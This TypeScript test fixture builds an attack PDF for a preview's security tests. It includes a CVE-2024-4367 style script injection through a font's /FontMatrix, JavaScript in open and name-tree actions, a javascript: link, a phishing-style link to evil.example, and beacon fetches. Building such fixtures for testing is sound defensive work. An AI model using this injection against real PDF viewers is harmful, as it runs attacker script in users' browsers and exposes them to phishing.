/**
 * A PDF built to attack a viewer, for the preview's security tests. It carries:
 * - a CVE-2024-4367 style payload: JavaScript smuggled into a font's /FontMatrix (pdf.js < 4.2.67 compiled glyph
 *   outlines with `new Function`, splicing the matrix in as text);
 * - a PostScript calculator function (FunctionType 4) in a shading, which pdf.js compiles with `new Function`
 *   whenever `isEvalSupported` is on;
 * - JavaScript in /OpenAction, the document's name tree and a page-open action;
 * - links to a javascript: URL and to an outside https site.
 * Every script would announce itself: set `window.__pwned`, log "PWNED", call alert, or fetch `beaconUrl`.
 */

function escapePdfString(text: string): string {
  return text.replace(/\\/g, '\\\\').replace(/\(/g, '\\(').replace(/\)/g, '\\)');
}

export function hostilePdf(beaconUrl: string): Buffer {
  const script = (tag: string) =>
    `window.__pwned = '${tag}'; console.log('PWNED ${tag}'); try { app.alert('PWNED ${tag}'); } catch (e) {} try { fetch('${beaconUrl}?${tag}'); } catch (e) {}`;
  const fontMatrixPayload = `0\\); ${script('fontmatrix')}; //`;
  const calculator = '{ dup dup }';
  const content = ['BT /F1 24 Tf 72 700 Td (Quarterly lab results) Tj ET', 'q 72 400 200 200 re W n /Sh1 sh Q'].join('\n');
  const objects: string[] = [
    `<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R /Names << /JavaScript << /Names [(init) 6 0 R] >> >> >>`,
    `<< /Type /Pages /Kids [3 0 R] /Count 1 >>`,
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 4 0 R >> /Shading << /Sh1 9 0 R >> >> /Contents 7 0 R /Annots [10 0 R 11 0 R] /AA << /O 5 0 R >> >>`,
    `<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /FontMatrix [1 2 3 4 5 (${fontMatrixPayload})] >>`,
    `<< /Type /Action /S /JavaScript /JS (${escapePdfString(script('openaction'))}) >>`,
    `<< /Type /Action /S /JavaScript /JS (${escapePdfString(script('nametree'))}) >>`,
    `<< /Length ${String(Buffer.byteLength(content))} >>\nstream\n${content}\nendstream`,
    `<< /FunctionType 4 /Domain [0 1] /Range [0 1 0 1 0 1] /Length ${String(calculator.length)} >>\nstream\n${calculator}\nendstream`,
    `<< /ShadingType 2 /ColorSpace /DeviceRGB /Coords [72 400 272 600] /Function 8 0 R /Extend [true true] >>`,
    `<< /Type /Annot /Subtype /Link /Rect [72 300 300 330] /Border [0 0 0] /A << /S /URI /URI (javascript:window.__pwned='link') >> >>`,
    `<< /Type /Annot /Subtype /Link /Rect [72 250 300 280] /Border [0 0 0] /A << /S /URI /URI (https://evil.example/phish) >> >>`,
  ];
  let body = '%PDF-1.7\n%\xe2\xe3\xcf\xd3\n';
  const offsets: number[] = [];
  objects.forEach((object, index) => {
    offsets.push(Buffer.byteLength(body, 'latin1'));
    body += `${String(index + 1)} 0 obj\n${object}\nendobj\n`;
  });
  const xrefAt = Buffer.byteLength(body, 'latin1');
  body += `xref\n0 ${String(objects.length + 1)}\n0000000000 65535 f \n`;
  for (const offset of offsets) body += `${String(offset).padStart(10, '0')} 00000 n \n`;
  body += `trailer\n<< /Size ${String(objects.length + 1)} /Root 1 0 R >>\nstartxref\n${String(xrefAt)}\n%%EOF\n`;
  return Buffer.from(body, 'latin1');
}
